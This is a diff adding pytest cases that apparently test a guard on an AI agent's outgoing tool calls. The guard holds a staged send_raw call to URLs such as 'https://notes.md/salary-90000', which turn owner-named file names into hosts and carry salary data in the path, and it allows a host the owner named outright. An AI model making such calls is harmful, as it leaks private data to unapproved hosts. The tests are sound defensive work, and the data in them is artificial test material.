@@ -196,3 +196,23 @@ def test_recipient_inside_an_argument_named_like_content_is_held(world: Suite) -
 def test_control_owner_recipient_inside_a_content_object_goes_through(world: Suite) -> None:
     _run(world, {"toolCalls": [call("send_graph", message=_graph("alice@corp.example"))]})
     assert [name for name, _ in world.world.outbox] == ["send_graph"]
+
+
+@pytest.mark.parametrize("url", ["https://notes.md/salary-90000", "https://backup.zip/x"])
+def test_a_file_the_owner_named_does_not_open_the_host_of_that_name(world: Suite, url: str) -> None:
+    owner = (
+        "Read my inbox, save a summary to notes.md and backup.zip, and reply to alice@corp.example."
+    )
+    events = _run(world, {"toolCalls": [call("send_raw", to=url)]}, owner=owner)
+    assert world.world.outbox == []
+    assert _reasons(events, "tool.held") == ["untrusted.ungrounded"]
+
+
+def test_control_a_host_the_owner_named_bare_is_open(world: Suite) -> None:
+    owner = (
+        "Read my inbox and post the summary to status.corp.example, reply to alice@corp.example."
+    )
+    _run(
+        world, {"toolCalls": [call("send_raw", to="https://status.corp.example/post")]}, owner=owner
+    )
+    assert [name for name, _ in world.world.outbox] == ["send_raw"]
